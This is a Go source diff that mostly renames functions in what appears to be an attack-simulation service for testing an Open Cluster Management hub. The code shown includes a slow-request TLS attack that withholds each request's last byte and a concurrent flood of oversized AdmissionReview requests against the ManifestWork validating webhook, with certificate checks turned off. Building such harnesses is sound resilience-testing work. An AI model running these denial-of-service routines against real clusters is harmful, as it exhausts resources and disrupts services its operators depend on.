@@ -40,7 +40,7 @@ const (
 )
 
 func main() {
-	err := yield()
+	err := lowerPriority()
 	if err == nil {
 		err = serve()
 	}
@@ -48,20 +48,21 @@ func main() {
 	os.Exit(1)
 }
 
-// lowest is the greatest niceness.
-const lowest = 19
+// maxNiceness is that of the lowest priority.
+const maxNiceness = 19
 
-// yield has the processor given to all others first: an attacker has a machine of its
-// own, and what it spends there must not count as a cost of the hub's. The program
-// starts itself anew, as the priority is that of a thread and of those that it starts.
-func yield() error {
+// lowerPriority restarts the program at niceness 19, so that the processor is given to all
+// others first: an attacker has a machine of its own, and what it spends there must not
+// count as a cost of the hub's. It is a restart because the priority is that of a thread
+// and of those that it starts.
+func lowerPriority() error {
 	runtime.LockOSThread()
 	defer runtime.UnlockOSThread()
 	// The kernel counts from 20 downwards.
-	if now, err := syscall.Getpriority(syscall.PRIO_PROCESS, 0); err != nil || now <= 20-lowest {
+	if now, err := syscall.Getpriority(syscall.PRIO_PROCESS, 0); err != nil || now <= 20-maxNiceness {
 		return err
 	}
-	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, lowest); err != nil {
+	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, maxNiceness); err != nil {
 		return err
 	}
 	return syscall.Exec("/proc/self/exe", os.Args, os.Environ()) //nolint:gosec // it is this program
@@ -69,7 +70,7 @@ func yield() error {
 
 func serve() error {
 	mux := http.NewServeMux()
-	for name, attack := range map[string]func(context.Context, string) string{"bodies": bodies, "reviews": review} {
+	for name, attack := range map[string]func(context.Context, string) string{"bodies": bodies, "reviews": attackWebhook} {
 		mux.HandleFunc("GET /"+name, func(w http.ResponseWriter, r *http.Request) {
 			ctx, cancel := context.WithTimeout(r.Context(), lasting)
 			defer cancel()
@@ -80,8 +81,8 @@ func serve() error {
 	return server.ListenAndServe()
 }
 
-// anyone is whoever answers: an attacker does not care.
-func anyone() *tls.Config {
+// insecureTLS trusts whoever answers: an attacker does not care.
+func insecureTLS() *tls.Config {
 	return &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12} //nolint:gosec // an attacker has no trust to betray
 }
 
@@ -108,7 +109,7 @@ func bodies(ctx context.Context, address string) string {
 
 // question sends all of a question but its last byte, and waits.
 func question(ctx context.Context, address, token string) (sent int64, answered bool) {
-	conn, err := (&tls.Dialer{Config: anyone()}).DialContext(ctx, "tcp", address)
+	conn, err := (&tls.Dialer{Config: insecureTLS()}).DialContext(ctx, "tcp", address)
 	if err != nil {
 		return 0, false
 	}
@@ -136,32 +137,33 @@ func (blanks) Read(p []byte) (int, error) {
 	return len(p), nil
 }
 
-// review asks for verdicts about a work of nothing but manifests.
-func review(ctx context.Context, address string) string {
+// attackWebhook asks for verdicts about a work of nothing but manifests.
+func attackWebhook(ctx context.Context, address string) string {
 	const head = `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u","resource":{"group":"work.open-cluster-management.io","version":"v1","resource":"manifestworks"},` +
 		`"operation":"CREATE","namespace":"hostile","object":{"apiVersion":"work.open-cluster-management.io/v1","kind":"ManifestWork","spec":{"workload":{"manifests":[`
 	const tail = `{}]}}}}}`
 	body := head + strings.Repeat(`{},`, (maxReview-len(head)-len(tail))/3) + tail
-	client := &http.Client{Transport: &http.Transport{TLSClientConfig: anyone(), MaxConnsPerHost: reviews}}
+	client := &http.Client{Transport: &http.Transport{TLSClientConfig: insecureTLS(), MaxConnsPerHost: reviews}}
 	url := "https://" + net.JoinHostPort(address, "9443") + "/validate-work-open-cluster-management-io-v1-manifestwork"
-	var asked, judged atomic.Int64
+	var asked, answered atomic.Int64
 	var askers sync.WaitGroup
 	for range reviews {
 		askers.Go(func() {
 			for ctx.Err() == nil {
 				asked.Add(1)
-				if verdict(ctx, client, url, body) {
-					judged.Add(1)
+				if postReview(ctx, client, url, body) {
+					answered.Add(1)
 				}
 				time.Sleep(50 * time.Millisecond) // one that is refused asks again, as fast as people notice
 			}
 		})
 	}
 	askers.Wait()
-	return fmt.Sprintf("%d reviews, %d judged", asked.Load(), judged.Load())
+	return fmt.Sprintf("%d reviews, %d judged", asked.Load(), answered.Load())
 }
 
-func verdict(ctx context.Context, client *http.Client, url, body string) bool {
+// postReview sends one AdmissionReview and says whether it was answered with 200.
+func postReview(ctx context.Context, client *http.Client, url, body string) bool {
 	request, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(body))
 	if err != nil {
 		return false
